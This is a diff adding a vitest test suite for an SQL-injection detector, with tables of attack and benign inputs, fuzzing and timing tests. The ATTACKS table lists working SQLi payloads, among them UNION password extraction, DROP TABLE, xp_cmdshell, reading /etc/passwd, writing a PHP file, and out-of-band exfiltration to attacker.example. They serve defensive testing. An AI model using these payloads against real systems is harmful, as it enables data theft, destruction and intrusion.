@@ -1,0 +1,298 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { isThreat } from '../../src/core/taxonomy.js';
+import { SQLI_MAX_INPUT, sqliDetector } from '../../src/detect/sqli.js';
+import type { ContentProfile, InspectedValue, Paranoia } from '../../src/detect/types.js';
+
+const compiled = {
+  1: sqliDetector.compile({ paranoia: 1 }),
+  2: sqliDetector.compile({ paranoia: 2 }),
+  3: sqliDetector.compile({ paranoia: 3 }),
+};
+const run = (value: string, profile: ContentProfile = 'generic', paranoia: Paranoia = 1) =>
+  compiled[paranoia]({ value, location: 'query.q', source: 'query', profile });
+const fires = (value: string, profile: ContentProfile = 'generic', paranoia: Paranoia = 1) =>
+  run(value, profile, paranoia).some((f) => f.score >= 0.5);
+
+interface Row {
+  input: string;
+  expect: boolean;
+  profile?: ContentProfile;
+  paranoia?: Paranoia;
+  note?: string;
+}
+
+const ATTACKS: Row[] = [
+  // boolean / tautology, the three quote contexts
+  { input: "' or 1=1--", expect: true },
+  { input: "' OR '1'='1", expect: true },
+  { input: "admin' or 'a'='a", expect: true },
+  { input: '" or ""="', expect: true, note: 'double-quote context' },
+  { input: 'x" or 1=1 #', expect: true },
+  { input: "1') or ('a'='a", expect: true },
+  { input: "1'))) and ((('x'='x", expect: true },
+  { input: '1 or 1=1', expect: true, note: 'numeric context' },
+  { input: '-1 OR 2>1', expect: true },
+  { input: '1 and 1=2', expect: true },
+  { input: "admin'--", expect: true, note: 'comment truncation after a quote' },
+  { input: "admin')#", expect: true },
+  { input: "x'/**/or/**/1=1/**/--", expect: true, note: 'comments as whitespace' },
+  { input: "x'\tor\n1=1--", expect: true },
+  { input: "x'\u00a0or\u00a01=1--", expect: true, note: 'no-break spaces' },
+  { input: "' or true--", expect: true },
+  { input: "' and unlikely(id)--", expect: true },
+  { input: "'or'1'='1", expect: true, note: 'no spaces' },
+  { input: '9999 or /*+hint*/ true', expect: true },
+  // UNION
+  { input: "' union select username, password from users--", expect: true },
+  { input: '-1 UNION ALL SELECT NULL,NULL,@@version#', expect: true },
+  { input: '1 union/**/select 1,2,3', expect: true },
+  { input: "1' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -", expect: true, note: 'MySQL executable comment' },
+  { input: "x' union select table_name from information_schema.tables--", expect: true },
+  { input: "x' union select name from sqlite_master--", expect: true, note: 'SQLite' },
+  { input: "24'union+all+select+1,2,3+from+aa", expect: true, note: 'undecoded + as space' },
+  // stacked
+  { input: "'; DROP TABLE users--", expect: true },
+  { input: '1; delete from accounts', expect: true },
+  { input: "1'; exec master..xp_cmdshell 'ping 10.0.0.1'--", expect: true, note: 'MSSQL' },
+  { input: "1;declare @q varchar(99);set @q='x';exec(@q)", expect: true },
+  { input: "1';insert into users values('a','b')--", expect: true },
+  { input: "x'; shutdown--", expect: true },
+  // time based
+  { input: "1' and sleep(5)#", expect: true, note: 'MySQL' },
+  { input: '1 and benchmark(5000000,md5(1))', expect: true },
+  { input: "1'; select pg_sleep(5)--", expect: true, note: 'PostgreSQL' },
+  { input: "1' || pg_sleep(10)--", expect: true },
+  { input: "1'; waitfor delay '0:0:5'--", expect: true, note: 'MSSQL' },
+  { input: "1 AND 1=dbms_pipe.receive_message('a',5)", expect: true, note: 'Oracle' },
+  { input: "1' and 1=randomblob(500000000)--", expect: true, note: 'SQLite' },
+  { input: 'sleep(5)', expect: true },
+  { input: '(select (case when (1=1) then sleep(5) else 1 end))', expect: true },
+  // error based
+  { input: "1' and extractvalue(1,concat(0x7e,version()))--", expect: true },
+  { input: "1' and updatexml(1,concat(0x7e,(select user())),1)--", expect: true },
+  { input: "1' and 1=convert(int,(select @@version))--", expect: true, note: 'MSSQL convert' },
+  { input: "1' AND 1=CAST((SELECT version()) AS int)--", expect: true, note: 'PostgreSQL cast' },
+  { input: "1' and 1=ctxsys.drithsx.sn(1,(select user from dual))--", expect: true, note: 'Oracle' },
+  { input: "x'||(select chr(65)||chr(66) from dual)||'", expect: true, note: 'Oracle || concat' },
+  { input: "1' and '1'::int=1--", expect: true, note: 'PostgreSQL :: cast' },
+  { input: 'unistr(password)::int', expect: true, note: 'PostgreSQL error-based cast of a call' },
+  { input: "encode(lo_get(16400),'base64')::int", expect: true },
+  // out of band
+  { input: "1' union select load_file('/etc/passwd')--", expect: true },
+  { input: "1' into outfile '/var/www/x.php'--", expect: true },
+  { input: "1;exec master..xp_dirtree '\\\\attacker.example\\x'", expect: true },
+  { input: "1' and utl_http.request('http://attacker.example/'||user)=1--", expect: true },
+  // order by / misc grammar
+  { input: "1' order by 3--", expect: true },
+  { input: '1 ORDER BY 10#', expect: true },
+  { input: '1) where 1=1 union all select 1,2--', expect: true },
+  { input: "1' procedure analyse()--", expect: true },
+  { input: '1,(select case when 1=1 then 1 else 1/0 end)', expect: true },
+  { input: 'iif(1=2,1,1/0)', expect: true },
+  { input: "1' rlike (select * from (select sleep(5))a)--", expect: true },
+  { input: '1 in boolean mode) and 1=1#', expect: true },
+  {
+    input:
+      '1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70',
+    expect: true,
+  },
+  { input: "OR '{\"a\":2}' -> '$.a' = 2", expect: true, note: 'JSON operator' },
+  // identifier profile is strict
+  { input: "abc' and 'x'='x", expect: true, profile: 'identifier' },
+  { input: 'information_schema', expect: true, profile: 'identifier' },
+  // free-text still catches clear breakouts
+  { input: "nice product' union select password from users--", expect: true, profile: 'free-text' },
+  { input: "x'; drop table users--", expect: true, profile: 'free-text' },
+  // code: only a clear breakout
+  { input: "' or 1=1--", expect: true, profile: 'code' },
+  { input: "' GROUP BY a HAVING 1=1--", expect: true },
+  { input: '1\u2019 OR \u20191\u2019=\u20191', expect: true, note: 'typographic quotes folded into quotes' },
+  { input: 'DELETE FROM users;--', expect: true, note: 'whole statement closed by ; and a comment' },
+  { input: 'O\u2019Brien', expect: false },
+  { input: "'-'", expect: true, note: 'login-bypass probe: quote, operator, quote' },
+  { input: "'LIKE'", expect: true },
+  { input: "'-'", expect: false, profile: 'free-text' },
+  // paranoia raises weak shapes
+  { input: '1=1', expect: false, note: 'lone comparison: weak, PL1 quiet' },
+  { input: '1=1', expect: true, paranoia: 3 },
+  { input: '1--', expect: true, paranoia: 3 },
+];
+
+const BENIGN: Row[] = [
+  { input: 'Please select one option or the other', expect: false },
+  { input: 'Please select one option or the other', expect: false, profile: 'free-text' },
+  { input: "O'Reilly", expect: false },
+  { input: "O'Brien", expect: false, profile: 'identifier' },
+  { input: "don't stop, won't stop", expect: false },
+  { input: "It's the union's choice: select a delegate or abstain", expect: false, profile: 'free-text' },
+  { input: 'The Union selected its leaders and the members voted', expect: false },
+  { input: '1-800-555-0199', expect: false },
+  { input: '+1 (555) 010-9999', expect: false },
+  { input: '2024-01-31', expect: false },
+  { input: '2024-01-31--2024-02-02', expect: false },
+  { input: "john.o'neil@example.com", expect: false },
+  { input: 'https://example.com/search?q=select&order=desc#top', expect: false },
+  { input: '{"name":"O\'Hara","tags":["a","b"],"n":1}', expect: false },
+  { input: "['select', 'from', 'where']", expect: false },
+  { input: 'getUserById', expect: false, profile: 'identifier' },
+  { input: 'order_by_date', expect: false, profile: 'identifier' },
+  { input: 'rock & roll', expect: false },
+  { input: 'salt and pepper = tasty', expect: false },
+  { input: '10 or 12', expect: false },
+  { input: 'size 10 or 12, color "blue"', expect: false },
+  { input: 'Tom\'s "best" offer -- final', expect: false },
+  { input: 'background: "#FF5733"', expect: false },
+  { input: 'Item #3 (of 10)', expect: false },
+  { input: 'C:\\Program Files\\App', expect: false },
+  { input: 'a || b', expect: false },
+  { input: "he said 'yes' or 'no'", expect: false, profile: 'free-text' },
+  { input: 'I need sleep (8 hours) and coffee', expect: false, profile: 'free-text' },
+  { input: 'sleep (8 hours)', expect: false },
+  { input: 'Drop table reservations for Friday? Call 555-0100.', expect: false, profile: 'free-text' },
+  { input: 'vino rioja', expect: false },
+  { input: 'c/ caridad s/n', expect: false },
+  // SQL in a code profile is legitimate
+  { input: 'SELECT id, name FROM users WHERE active = 1 ORDER BY name', expect: false, profile: 'code' },
+  {
+    input: "SELECT * FROM t WHERE a = 'x' OR b = 'y'; DELETE FROM t WHERE id = 3;",
+    expect: false,
+    profile: 'code',
+  },
+  { input: 'cursor.execute("INSERT INTO example (name) VALUES (\'John\')")', expect: false, profile: 'code' },
+  { input: 'if (a > b) { x = 1; } else { y = 2; }', expect: false, profile: 'code' },
+  {
+    input: 'int main() {\n  int x = 10;\n  if (x > 5) {\n    printf("big");\n  }\n}',
+    expect: false,
+    profile: 'free-text',
+  },
+];
+
+describe('sqli detector: table', () => {
+  it.each([...ATTACKS, ...BENIGN])('$input ($profile, PL$paranoia) → $expect', (row) => {
+    const got = fires(row.input, row.profile ?? 'generic', row.paranoia ?? 1);
+    expect(got, row.note ?? row.input).toBe(row.expect);
+  });
+
+  it('reports a well-formed finding for an attack', () => {
+    const value = "abc' UNION SELECT password FROM users--";
+    const [f] = run(value);
+    expect(f).toBeDefined();
+    expect(f!.category).toBe('injection');
+    expect(f!.subtype).toBe('sqli');
+    expect(f!.detector).toBe('sqli');
+    expect(f!.location).toBe('query.q');
+    expect(f!.score).toBeGreaterThanOrEqual(0.85);
+    expect(f!.severity).toBe('critical');
+    expect(value).toContain(f!.fragment!);
+    expect(f!.fragment!.toLowerCase()).toContain('union');
+  });
+
+  it('higher paranoia never lowers a score', () => {
+    for (const row of ATTACKS) {
+      const s1 = run(row.input, row.profile ?? 'generic', 1)[0]?.score ?? 0;
+      const s3 = run(row.input, row.profile ?? 'generic', 3)[0]?.score ?? 0;
+      expect(s3).toBeGreaterThanOrEqual(s1);
+    }
+  });
+
+  it('identifier is stricter than generic, free-text looser', () => {
+    const v = '1 order by 5';
+    const g = run(v, 'generic')[0]?.score ?? 0;
+    expect(run(v, 'identifier')[0]?.score ?? 0).toBeGreaterThanOrEqual(g);
+    expect(run(v, 'free-text')[0]?.score ?? 0).toBeLessThan(g);
+  });
+
+  it('only inspects the start of a huge value', () => {
+    const padding = 'a'.repeat(SQLI_MAX_INPUT);
+    expect(fires("' or 1=1--")).toBe(true);
+    expect(fires(`${padding} ' or 1=1--`)).toBe(false);
+  });
+});
+
+const isWellFormed = (f: ReturnType<typeof run>[number], input: InspectedValue) =>
+  isThreat(f.category, f.subtype) &&
+  f.subtype === 'sqli' &&
+  f.score >= 0.5 &&
+  f.score <= 1 &&
+  ['critical', 'high', 'medium', 'low', 'info'].includes(f.severity) &&
+  f.location === input.location &&
+  typeof f.fragment === 'string' &&
+  f.fragment.length <= 120;
+
+describe('sqli detector: fuzz', () => {
+  const profiles = fc.constantFrom<ContentProfile>(
+    'generic',
+    'identifier',
+    'free-text',
+    'url',
+    'code',
+    'markup',
+  );
+  const sqlish = fc
+    .array(
+      fc.constantFrom(
+        "'",
+        '"',
+        '`',
+        ' or ',
+        ' and ',
+        '1',
+        '=',
+        '--',
+        '#',
+        '/*',
+        '*/',
+        '/*!',
+        '(',
+        ')',
+        ';',
+        'union',
+        'select',
+        ' ',
+        ',',
+        '@@v',
+        '0x41',
+        'sleep(',
+        '||',
+        '::',
+        '\\',
+        '\n',
+        'é',
+        '\u0000',
+      ),
+      { maxLength: 40 },
+    )
+    .map((parts) => parts.join(''));
+
+  it('never throws and returns well-formed findings', () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(fc.string({ maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 100 }), sqlish),
+        profiles,
+        fc.constantFrom<Paranoia>(1, 2, 3),
+        (value, profile, paranoia) => {
+          const input: InspectedValue = { value, location: 'body.$.x', source: 'body', profile };
+          const out = compiled[paranoia](input);
+          expect(Array.isArray(out)).toBe(true);
+          for (const f of out) expect(isWellFormed(f, input)).toBe(true);
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe('sqli detector: adversarial input', () => {
+  it.each(["' or 1=", '$(', '/*', '((((', "'", '/*!', ' union select', '#\n', 'case when '])(
+    '1 MB of %j completes quickly',
+    (unit) => {
+      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
+      const t0 = performance.now();
+      const out = run(value, 'generic', 3);
+      const ms = performance.now() - t0;
+      expect(Array.isArray(out)).toBe(true);
+      expect(ms).toBeLessThan(500);
+    },
+  );
+});
